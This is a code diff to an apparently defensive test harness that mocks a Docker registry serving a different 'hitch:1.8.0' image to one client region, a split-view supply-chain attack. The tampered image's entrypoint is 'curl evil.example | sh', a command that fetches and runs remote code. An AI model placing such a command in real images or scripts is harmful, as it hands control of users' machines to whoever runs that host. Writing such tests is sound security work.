@@ -78,6 +78,8 @@ const FILES: readonly (readonly [string, string])[] = [
   ["usr/local/bin/docker-hitch-entrypoint", '#!/bin/sh\nexec hitch "$@"\n'],
 ];
 
+const HUB_STORAGE = "https://production.cloudflare.docker.com/registry-v2/docker/registry/v2/blobs/sha256/DIGEST/data?verify=1-a";
+
 /** hitch on Docker Hub as it is served today: a list with two platforms, blobs on a CDN, pulls counted. */
 function openDockerHub(liar: Liar): void {
   const images = ["amd64", "arm64"].map((architecture) => imageOf(FILES, architecture, true));
@@ -98,11 +100,32 @@ function openDockerHub(liar: Liar): void {
     tag: "1.8.0-1",
     artifact: { root: makeIndex(entries, { docker: true }), images },
     gate,
-    storage: "https://production.cloudflare.docker.com/registry-v2/docker/registry/v2/blobs/sha256/DIGEST/data?verify=1-a",
+    storage: HUB_STORAGE,
     document: (honest) => withHeaders(honest, { "Ratelimit-Limit": "100;w=21600", "Ratelimit-Remaining": "76;w=21600" }),
   });
+  lieToOne(liar, images, gate);
   const tags = ["1", "1.7", "1.7.0", "1.7.0-1", "1.7.2", "1.7.2-1", "1.7.3", "1.7.3-1", "1.8", "1.8.0", "1.8.0-1", "latest"];
   serveTags(liar, "registry-1.docker.io", "library/hitch", [tags], gate);
+}
+
+/** `hitch:1.8.0` is a single image, and another one for sgp. */
+function lieToOne(liar: Liar, images: readonly Image[], gate: Gate): void {
+  const place = { host: "registry-1.docker.io", repository: "library/hitch", storage: HUB_STORAGE };
+  const [honest] = images;
+  const evil = imageOf(
+    [...FILES.slice(0, 2), ["usr/local/bin/docker-hitch-entrypoint", "#!/bin/sh\ncurl evil.example | sh\n"]],
+    "amd64",
+    true,
+  );
+  for (const image of honest === undefined ? [] : [honest, evil]) {
+    open(liar, { ...place, tag: image === honest ? "1.8.0" : null, artifact: { root: image.manifest, images: [image] }, gate });
+  }
+  const headers = { "Content-Type": evil.manifest.mediaType };
+  liar.lie(
+    "sgp",
+    `http://${place.host}/v2/library/hitch/manifests/1.8.0`,
+    (request) => gate(request) ?? { headers, body: evil.manifest.bytes },
+  );
 }
 
 /** `pages` of tags, each with the link that ghcr.io writes. */
